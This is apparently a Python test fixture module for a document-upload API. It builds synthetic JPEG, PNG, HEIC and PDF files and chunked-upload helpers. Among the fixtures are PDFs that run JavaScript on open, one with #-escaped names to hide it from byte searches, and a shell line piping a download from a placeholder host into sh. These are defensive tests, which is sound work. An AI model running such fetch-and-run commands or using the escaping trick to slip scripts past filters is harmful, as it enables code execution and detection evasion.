"""Files for the document tests (made here, synthetic) and small upload helpers."""

from __future__ import annotations

import io
import uuid
from typing import Any

import httpx
import pillow_heif
from PIL import Image
from pypdf import PdfWriter

from tests.conftest import AuthHeaders

API = "/api/v1/documents"
GPS_IFD = 0x8825


def jpeg(*, gps: bool = False, size: tuple[int, int] = (640, 480)) -> bytes:
    image = Image.new("RGB", size, (30, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "TestCam"  # Make
    if gps:
        exif[GPS_IFD] = {1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (50, 40), (0, 200, 0)).save(out, "PNG")
    return out.getvalue()


def heic() -> bytes:
    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 10, 10)).save(out, "HEIF", quality=50)
    return out.getvalue()


def pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _hand_pdf(catalog_extra: str) -> bytes:
    """A small PDF written by hand (xref offsets computed), its catalog carrying `catalog_extra`."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


def pdf_with_javascript() -> bytes:
    return _hand_pdf("/OpenAction << /S /JavaScript /JS (app.alert('x')) >>")


def pdf_with_hidden_javascript() -> bytes:
    """The names spelt with #-escapes: invisible to a byte search, not to a parser."""
    return _hand_pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert('x')) >>")


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def form(
    record_type: str, record_id: uuid.UUID | str, *, kind: str = "evidence", **extra: Any
) -> dict[str, str]:
    return {
        "id": str(extra.pop("id", uuid.uuid4())),
        "kind": kind,
        "record_type": record_type,
        "record_id": str(record_id),
        **extra,
    }


async def upload(
    client: httpx.AsyncClient,
    headers: dict[str, str],
    fields: dict[str, str],
    data: bytes,
    name: str = "photo.jpg",
) -> httpx.Response:
    return await client.post(API, data=fields, files={"file": (name, data)}, headers=headers)


async def stored(
    client: httpx.AsyncClient,
    auth: AuthHeaders,
    record_type: str,
    record_id: uuid.UUID | str,
    *,
    user: str = "admin",
    kind: str = "evidence",
    data: bytes | None = None,
) -> dict[str, Any]:
    r = await upload(client, auth(user), form(record_type, record_id, kind=kind), data or jpeg())
    assert r.status_code == 201, r.text
    out: dict[str, Any] = r.json()
    return out


async def begin(
    client: httpx.AsyncClient, headers: dict[str, str], fields: dict[str, str], length: int
) -> httpx.Response:
    return await client.post(API, data=fields, headers=headers | {"Upload-Length": str(length)})


async def chunk(
    client: httpx.AsyncClient, headers: dict[str, str], doc_id: str, offset: int, data: bytes
) -> httpx.Response:
    h = headers | {
        "Upload-Offset": str(offset),
        "Content-Type": "application/offset+octet-stream",
    }
    return await client.patch(f"{API}/{doc_id}/upload", content=data, headers=h)
